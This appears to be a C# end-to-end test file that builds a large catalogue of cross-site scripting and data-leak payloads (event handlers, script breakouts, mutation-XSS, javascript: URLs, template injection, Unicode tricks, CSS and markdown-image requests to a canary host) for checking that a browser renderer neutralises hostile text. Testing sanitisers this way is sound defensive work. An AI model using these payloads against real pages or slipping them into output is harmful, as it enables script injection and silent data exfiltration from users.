using System.Globalization;

namespace Kotodama.EndToEnd.Browser.Hostile;

/// <summary>
/// Texts that would run a script, or send a request, on a page that takes them for more than texts. Each stands for another mechanism or
/// another carrier; its number tells which one it was.
/// </summary>
/// <param name="canary">Where a request of the texts would go.</param>
internal sealed class HostileTexts(Uri canary)
{
    /// <summary>What a script calls to be noticed.</summary>
    public const string Call = "struck";

    private static readonly string[] Handlers =
    [
        "<img src=x onerror={x}>", "<img src=x:x onerror=&#115;truck({n})>", "<svg onload={x}>", "<svg/onload={x}>", "<svg\tonload={x}>", "<svg\nonload={x}>", "<svg\fonload={x}>", "<body onload={x}>", "<body onpageshow={x}>", "<body onhashchange={x}>", "<body onresize={x}>",
        "<iframe onload={x}>", "<iframe src=about:blank onload={x}>", "<object onerror={x} data=x:x>", "<embed src=x:x onerror={x}>", "<video src=x:x onerror={x}>", "<video><source onerror={x} src=x:x></video>", "<video onloadstart={x} src=x:x>", "<audio src=x:x onerror={x}>", "<audio autoplay onplay={x} src=x:x>",
        "<track onerror={x} src=x:x>", "<input autofocus onfocus={x}>", "<select autofocus onfocus={x}>", "<textarea autofocus onfocus={x}>", "<button autofocus onfocus={x}>x</button>", "<a autofocus tabindex=1 onfocus={x}>x</a>", "<div tabindex=1 autofocus onfocusin={x}>x</div>", "<input type=image src=x:x onerror={x}>",
        "<details open ontoggle={x}>", "<details ontoggle={x} open><summary>x</summary>", "<dialog open oncancel={x} onclose={x}>", "<marquee onstart={x}>x</marquee>", "<marquee loop=1 width=0 onfinish={x}>x</marquee>", "<div onmouseover={x} style=position:fixed;inset:0>x</div>", "<div onpointerenter={x} style=position:fixed;inset:0>x</div>",
        "<style>@keyframes s{}</style><b style=animation-name:s onanimationstart={x}>x</b>", "<b style=transition:1s ontransitionrun={x} ontransitionend={x}>x</b>", "<svg><animate onbegin={x} attributeName=x dur=1s>", "<svg><set onbegin={x} attributeName=x>", "<svg><animate onend={x} attributeName=x dur=.1s>", "<svg><image href=x:x onerror={x}>",
        "<svg><a onload={x}></a></svg>", "<link rel=stylesheet href=x:x onerror={x}>", "<style onload={x}></style>", "<style onerror={x}>@import 'x:x'</style>", "<script onerror={x} src=x:x></script>", "<frameset onload={x}>", "<menu onshow={x}>", "<form onformdata={x}><button autofocus>", "<form oninput={x}><input autofocus value=x>",
        "<div contenteditable autofocus onbeforeinput={x} onfocus={x}>x</div>", "<div popover id=p onbeforetoggle={x}>x</div><button popovertarget=p autofocus>x</button>", "<x oncontentvisibilityautostatechange={x} style=display:block;content-visibility:auto>", "<xss onscrollend={x} style=overflow:scroll;display:block>", "<math onload={x}><mi>x</mi></math>",
        "<img src=x onerror\u0000={x}>", "<img src=x onerror\u000b={x}>", "<img/src/onerror={x}>", "<img src=`x`onerror={x}>", "<img src='x'onerror={x}>", "<img src=\"x\"\"onerror={x}>", "<IMG SRC=x ONERROR={x}>", "<img src=x OnErRoR={x}>", "<img src=x onerror=\"{x}\">", "<img src=x onerror='{x}'>", "<img src=x onerror=`{x}`>", "<img src=x onerror={x}//",
        "<image src=x:x onerror={x}>", "<bgsound onerror={x} src=x:x>", "<isindex type=image src=x:x onerror={x}>", "<keygen autofocus onfocus={x}>", "<portal onload={x}>", "<fencedframe onload={x}>", "<canvas oncontextlost={x}>", "<meter onmouseover={x}>x</meter>",
    ];

    private static readonly string[] Scripts =
    [
        "<script>{x}</script>", "<ScRiPt>{x}</sCrIpT>", "<script\n>{x}</script\n>", "<script/x>{x}</script>", "<script type=module>{x}</script>", "<script src=data:text/javascript,{x}></script>", "<script src='data:,{x}'></script>", "<script async defer>{x}</script>", "<script>{x}<!--", "<<script>{x}//<</script>", "<scr<script>ipt>{x}</scr</script>ipt>",
        "<svg><script>{x}</script></svg>", "<svg><script>&#115;truck({n})</script></svg>", "<svg><script href=data:,{x} />", "<svg><script xlink:href=data:,{x}></script>", "<math><script>{x}</script></math>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"javascript:{x}\"]}]}</script>", "<script type=importmap>{\"imports\":{\"x\":\"data:,{x}\"}}</script>",
        "<template><script>{x}</script></template>", "<template shadowrootmode=open><script>{x}</script></template>", "<div><template shadowrootmode=open><img src=x onerror={x}></template></div>", "<noscript><img src=x onerror={x}></noscript>", "<xmp><script>{x}</script></xmp>", "<plaintext><script>{x}</script>", "<listing><script>{x}</script></listing>", "<comment><script>{x}</script></comment>",
        "</script><script>{x}</script>", "</title><script>{x}</script>", "</textarea><script>{x}</script>", "</style><script>{x}</script>", "</noscript><script>{x}</script>", "</select><script>{x}</script>", "</template><script>{x}</script>", "</svg><script>{x}</script>", "</p></div></li></ol></section></main><script>{x}</script>", "--><script>{x}</script>", "]]><script>{x}</script>", "*/{x}/*", "';{x}//", "\";{x}//", "`;{x}//", "\\';{x}//", "\\\";{x}//", "</script>\u2028<script>{x}</script>",
        "<!--><script>{x}</script>", "<!--x--!><script>{x}</script>", "<!-- --><script>{x}</script><!-- -->", "<![CDATA[<script>{x}</script>]]>", "<?xml version='1.0'?><script>{x}</script>", "<!DOCTYPE x [<!ENTITY e '<script>{x}</script>'>]>&e;", "<%<script>{x}</script>%>", "<?php {x} ?><script>{x}</script>", "&lt;script&gt;{x}&lt;/script&gt;", "&#60;script&#62;{x}&#60;/script&#62;", "&#x3c;script>{x}&#x3c;/script>", "&amp;lt;script&amp;gt;{x}", "%3Cscript%3E{x}%3C/script%3E", "\\u003cscript\\u003e{x}\\u003c/script\\u003e", "\\x3cscript\\x3e{x}", "+ADw-script+AD4-{x}+ADw-/script+AD4-",
    ];

    private static readonly string[] Mutations =
    [
        "<noscript><p title=\"</noscript><img src=x onerror={x}>\">", "<svg></p><style><a id=\"</style><img src=x onerror={x}>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={x}&gt;\">", "<math><mtext><mglyph><style><img title=\"</style><img src=x onerror={x}>\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={x}>",
        "<svg><desc><table><style><a title='</style><img src=x onerror={x}>'>", "<svg><foreignObject><iframe onload={x}></foreignObject></svg>", "<svg><title><style><img title='</style><img src=x onerror={x}>'>", "<table><td background=x><script>{x}</script>", "<select><iframe onload={x}></select>", "<select><style></select><img src=x onerror={x}>", "<option><style></option></select><img src=x onerror={x}></style>", "<listing>&lt;img src=x onerror={x}&gt;</listing>",
        "<p id='\u0000<img src=x onerror={x}>'>", "<a title='`<img src=x onerror={x}>`'>x</a>", "<b title=\"``onmouseover={x} \">x</b>", "<textarea><img title='</textarea><img src=x onerror={x}>'></textarea>", "<title><img title='</title><img src=x onerror={x}>'>", "<xmp><p title='</xmp><svg/onload={x}>'>", "<iframe><p title='</iframe><svg/onload={x}>'>", "<noembed><p title='</noembed><svg/onload={x}>'>", "<noframes><p title='</noframes><svg/onload={x}>'>",
        "<div id=__proto__ name=innerHTML><img src=x onerror={x}>", "<form name=body><input name=attributes autofocus onfocus={x}></form>", "<img name=getElementById src=x onerror={x}>", "<a id=kotodama href=javascript:{x}>x</a><a id=kotodama name=inspect>x</a>",
    ];

    private static readonly string[] Carriers =
    [
        "<a href=\"{u}\">x</a>", "<a href='{u}' autofocus>x</a>", "<iframe src=\"{u}\"></iframe>", "<iframe srcdoc=\"<script>parent.{x}</script>\" data-x=\"{u}\"></iframe>", "<object data=\"{u}\"></object>", "<embed src=\"{u}\">", "<form action=\"{u}\"><button autofocus>x</button></form>", "<button formaction=\"{u}\" form=f>x</button>", "<area href=\"{u}\" shape=default>",
        "<svg><a xlink:href=\"{u}\"><text>x</text></a></svg>", "<math href=\"{u}\"><mi>x</mi></math>", "<base href=\"{u}\"><a href=x>x</a>", "<meta http-equiv=refresh content=\"0;url={u}\">", "<link rel=import href=\"{u}\">", "<svg><use href=\"{u}\"></use></svg>", "<svg><animate attributeName=href values=\"{u}\"></svg>", "<img src=\"{u}\">", "<video poster=\"{u}\">", "<body background=\"{u}\">",
        "[x]({u})", "[x](<{u}>)", "<{u}>", "[x]: {u}\n\n[x]", "![x]({u})", "[![x](y)]({u})", "[x]({u} \"title\")", "[x]( {u} )", "{u}", "**[x]({u})**", "| [x]({u}) |\n|---|", "> [x]({u})", "- [x]({u})", "# [x]({u})", "`[x]({u})`", "```{u}\n[x]({u})\n```", "[x](&#106;avascript:{x})", "[x](\\{u})", "[^1]\n\n[^1]: {u}",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:{x}", "JaVaScRiPt:{x}", "java\tscript:{x}", "java\nscript:{x}", "\u0001javascript:{x}", "&#x6A&#x61&#x76&#x61script:{x}", "javascript&colon;{x}", "javascript://%0a{x}", "javascript:/*--></title></style></textarea></script>*/{x}", "data:text/html,<script>{x}</script>", "data:text/html;base64,PHNjcmlwdD5zdHJ1Y2soKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{x}'/>", "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{x}</script>", "vbscript:{x}", "livescript:{x}", "blob:null/{n}", "filesystem:http://localhost/{n}", "view-source:javascript:{x}", "feed:javascript:{x}", "jar:javascript:{x}!/", "intent://x#Intent;scheme=javascript;S.x={x};end", "file:///etc/passwd", "about:blank#{x}", "mhtml:{x}",
    ];

    private static readonly string[] Templates =
    [
        "{{constructor.constructor('{x}')()}}", "{{$on.constructor('{x}')()}}", "{{[].pop.constructor('{x}')()}}", "{{_c.constructor('{x}')()}}", "{{{<img src=x onerror={x}>}}}", "{{#with \"x\" as |x|}}{{x.constructor.constructor '{x}'}}{{/with}}", "${{x}}", "#{{x}}", "<%= {x} %>", "<%- {x} %>", "[[{x}]]", "{%raw%}{x}{%endraw%}", "@({x})", "{{= {x} }}", "{{!-- --}}<b>{x}</b>",
        "<div ng-app ng-csp ng-click=$event.view.{x}>x</div>", "<div v-html=\"'<img src=x onerror={x}>'\">x</div>", "<div v-on:mouseover={x} @click={x}>x</div>", "<div x-data x-init={x}>x</div>", "<div hx-on:load={x} hx-get=x hx-trigger=load>x</div>", "<div data-bind=\"text: {x}\">x</div>", "<div *ngIf={x} (click)={x} [innerHTML]=\"x\">x</div>", "<div dangerouslySetInnerHTML={{__html:'<img src=x onerror={x}>'}}/>", "<div is=x-y on:click={{x}}>x</div>", "<script type=text/x-template>{x}</script>", "<script type=text/x-handlebars>{{x}}</script>",
        "__proto__[innerHTML]=<img src=x onerror={x}>", "constructor[prototype][src]=data:,{x}", "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror={x}>\"}}", "toString(){ {x} }", "$$\\href{javascript:{x}}{x}$$", "\\unicode{<img src=x onerror={x}>}", "$\\style{behavior:url(x)}{<svg onload={x}>}$", "```mermaid\ngraph LR; a[\"<img src=x onerror={x}>\"]\nclick a href \"javascript:{x}\"\n```", "```html\n<script>{x}</script>\n```", "~~~js\n{x}\n~~~", "```\"><img src=x onerror={x}>\n```", "<details><summary>x</summary>\n\n<img src=x onerror={x}>\n\n</details>",
    ];

    private static readonly string[] Unicode =
    [
        "\uff1cscript\uff1e{x}\uff1c/script\uff1e", "\ufe64img src=x onerror={x}\ufe65", "\u2039script\u203a{x}", "\u3008img src=x onerror={x}\u3009", "<\u200bscript>{x}</\u200bscript>", "<s\u00adcript>{x}</s\u00adcript>", "<\ufeffimg src=x onerror={x}>", "<img\u00a0src=x\u00a0onerror={x}>", "<img\u3000src=x onerror={x}>", "<\u017fcript>{x}</\u017fcript>", "<scr\u0131pt>{x}</scr\u0131pt>", "<\u202etpircs>{x}", "\u202e>gmi<\u202c<img src=x onerror={x}>",
        "<img src=x onerror=\u2028{x}>", "<img src=x \u2029onerror={x}>", "\ud800<img src=x onerror={x}>", "<img src=x onerror={x}>\udfff", "<\U000e0073cript>{x}", "<img src=x onerror={x}>\ufe0f\ufe0f\ufe0f", "\u0000<script>{x}</script>", "<scr\u0000ipt>{x}</script>", "\u001b]8;;javascript:{x}\u0007x\u001b]8;;\u0007", "\ufffe<svg onload={x}>", "\u0085<svg onload={x}>", "<svg\u0085onload={x}>", "<\u0338img src=x onerror={x}>",
    ];

    private static readonly string[] Leaks =
    [
        "<img src={c}>", "<img srcset=\"{c} 1x, {c}2 2x\">", "<img src=x srcset={c} sizes=1px>", "<picture><source srcset={c}><img></picture>", "<img lowsrc={c} dynsrc={c}>", "<img src=//{h}/{n}>", "<img src=\\\\{h}\\{n}>", "<img src=http:{h}/{n}>", "<img src=http://canary.localhost:{p}/{n}>", "<img crossorigin src={c}>", "<img loading=eager src={c} referrerpolicy=unsafe-url>", "<video src={c} autoplay></video>", "<video poster={c}></video>", "<video><source src={c}></video>",
        "<audio src={c} autoplay preload=auto></audio>", "<audio><source src={c}></audio>", "<video><track default src={c}></video>", "<input type=image src={c}>", "<body background={c}>", "<table background={c}><tr><td background={c}>x</table>", "<iframe src={c}></iframe>", "<iframe srcdoc=\"<img src={c}>\"></iframe>", "<frameset><frame src={c}></frameset>", "<object data={c}></object>", "<object><param name=src value={c}></object>", "<embed src={c}>", "<applet code={c} archive={c}></applet>", "<portal src={c}></portal>", "<fencedframe src={c}></fencedframe>",
        "<bgsound src={c}>", "<script src={c}></script>", "<script type=module src={c}></script>", "<script type=importmap>{\"imports\":{\"x\":\"{c}\"}}</script><script type=module>import 'x'</script>", "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"{c}\"]}],\"prerender\":[{\"urls\":[\"{c}\"]}]}</script>",
        "<link rel=stylesheet href={c}>", "<link rel=prefetch href={c}>", "<link rel=preload as=image href={c}>", "<link rel=preload as=image imagesrcset={c}>", "<link rel=modulepreload href={c}>", "<link rel=preconnect href={c}>", "<link rel=dns-prefetch href=//{n}.canary.localhost>", "<link rel=prerender href={c}>", "<link rel=icon href={c}>", "<link rel=apple-touch-icon href={c}>", "<link rel=manifest href={c}>", "<link rel=search href={c}>", "<link rel=alternate href={c}>", "<link rel=subresource href={c}>", "<link rel=import href={c}>", "<link rel=compression-dictionary href={c}>",
        "<meta http-equiv=refresh content=\"0;url={c}\">", "<meta http-equiv=refresh content=\"0;{c}\">", "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'; report-uri {c}\"><img src=x>", "<meta http-equiv=Link content=\"<{c}>; rel=preload\">", "<meta http-equiv=set-cookie content='a=b'>", "<meta name=referrer content=unsafe-url><img src={c}>", "<base href={c}><img src=x>",
        "<form action={c} id=f><input name=a></form><script>f.submit()</script>", "<form action={c}><input autofocus type=submit></form>", "<button formaction={c} autofocus>x</button>", "<isindex action={c}>", "<a ping={c} href=#x>x</a>", "<a href=x attributionsrc={c}>x</a>", "<img attributionsrc={c}>", "<area ping={c} href=#x>",
        "<style>*{background:url({c})}</style>", "<style>@import '{c}';</style>", "<style>@import url({c});</style>", "<style>@font-face{font-family:x;src:url({c})}*{font-family:x}</style>", "<style>*{list-style:url({c})}</style>", "<style>*{cursor:url({c}),auto}</style>", "<style>*::before{content:url({c})}</style>", "<style>*{border-image:url({c})}</style>", "<style>*{mask:url({c}#x);-webkit-mask:url({c}2#x)}</style>", "<style>*{filter:url({c}#x)}</style>", "<style>*{clip-path:url({c}#x)}</style>", "<style>*{background:image-set('{c}' 1x)}</style>", "<style>*{shape-outside:url({c})}</style>", "<style>@namespace url({c});</style>", "<style>@document url({c}){}</style>",
        "<b style=background:url({c})>x</b>", "<b style=\"background:u\\72l({c})\">x</b>", "<b style=\"--x:url({c});background:var(--x)\">x</b>", "<b style=\"background:cross-fade(url({c}),url({c}2))\">x</b>", "<style>input[value^=a]{background:url({c})}</style>", "<style>@media screen{*{background:url({c})}}</style>", "<style>@supports (x:y) or (display:block){*{background:url({c})}}</style>",
        "<svg><image href={c} /></svg>", "<svg><image xlink:href={c} /></svg>", "<svg><use href={c}#x></use></svg>", "<svg><feImage href={c} /></svg>", "<svg><script href={c}></script></svg>", "<svg><style>@import '{c}';</style></svg>", "<svg><rect fill=url({c}#x) width=9 height=9 /></svg>", "<svg><set attributeName=href to={c}></svg>", "<?xml-stylesheet href='{c}'?><svg/>", "<!DOCTYPE x SYSTEM '{c}'>", "<!DOCTYPE x [<!ENTITY % e SYSTEM '{c}'> %e;]>", "<x:include xmlns:x=http://www.w3.org/2001/XInclude href={c} />", "<html manifest={c}>",
        "![x]({c})", "![x](<{c}>)", "![x]({c} \"title\")", "![x][r]\n\n[r]: {c}", "![r]\n\n[r]: {c}", "[![x]({c})]({c})", "![x](//{h}/{n})", "![x](http://canary.localhost:{p}/{n})", "![x][]\n\n[x]: <{c}> 'title'", "[x]({c})", "[x][r]\n\n[r]: {c}", "<{c}>", "{c}", "www.canary.localhost:{p}/{n}", "# ![x]({c})", "> ![x]({c})", "- ![x]({c})", "| ![x]({c}) |\n|---|\n| x |", "**![x]({c})**", "`![x]({c})`", "![x]({c}){width=1}", "![[{c}]]", "[x]({c} =1x1)", "^[x]({c})", "!include {c}", "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{c}'/></svg>)", "$$\\includegraphics{{c}}$$", "$$\\htmlStyle{background:url({c})}{x}$$", "```mermaid\ngraph LR; a[\"<img src='{c}'>\"]\n```", "![x](x \"\" onerror=fetch('{c}'))", "<!-- ![x]({c}) -->", "&lt;img src={c}&gt;",
    ];

    /// <summary>Texts that would run a script.</summary>
    public IReadOnlyList<string> Scripting { get; } =
    [
        .. ((string[])[.. Handlers, .. Scripts, .. Mutations, .. Templates, .. Unicode, .. Pairs(Carriers, Addresses)])
            .Select((text, n) => Fill(text, n, canary)),
    ];

    /// <summary>Texts that would send a request.</summary>
    public IReadOnlyList<string> Leaking { get; } = [.. Leaks.Select((text, n) => Fill(text, 10_000 + n, canary))];

    /// <summary>All of them.</summary>
    public IReadOnlyList<string> All => [.. Scripting, .. Leaking];

    /// <summary>Each carrier with two kinds of address, and each kind of address with some carriers.</summary>
    private static IEnumerable<string> Pairs(string[] carriers, string[] addresses) =>
        from i in Enumerable.Range(0, carriers.Length)
        from k in Enumerable.Range(0, 2)
        select carriers[i].Replace("{u}", addresses[((i * 5) + (k * 7)) % addresses.Length], StringComparison.Ordinal);

    private static string Fill(string text, int number, Uri canary)
    {
        var n = number.ToString(CultureInfo.InvariantCulture);
        return text.Replace("{x}", $"{Call}({n})", StringComparison.Ordinal).Replace("{n}", n, StringComparison.Ordinal)
            .Replace("{c}", new Uri(canary, n).ToString(), StringComparison.Ordinal).Replace("{h}", canary.Authority, StringComparison.Ordinal)
            .Replace("{p}", canary.Port.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal);
    }
}
